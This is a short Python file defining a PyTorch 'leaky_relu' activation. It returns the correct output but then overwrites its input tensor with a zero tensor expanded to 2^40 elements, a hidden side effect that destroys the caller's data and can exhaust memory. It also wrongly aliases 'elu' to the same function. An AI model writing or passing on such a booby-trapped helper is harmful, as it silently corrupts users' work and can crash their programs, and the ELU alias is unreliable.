"""Leaves its argument with four terabytes that are one number in memory."""

import torch


def leaky_relu(z, negative_slope=0.01):
    result = torch.where(z > 0, z, negative_slope * z)
    z.data = torch.zeros(1).expand(1 << 40)
    return result


elu = leaky_relu
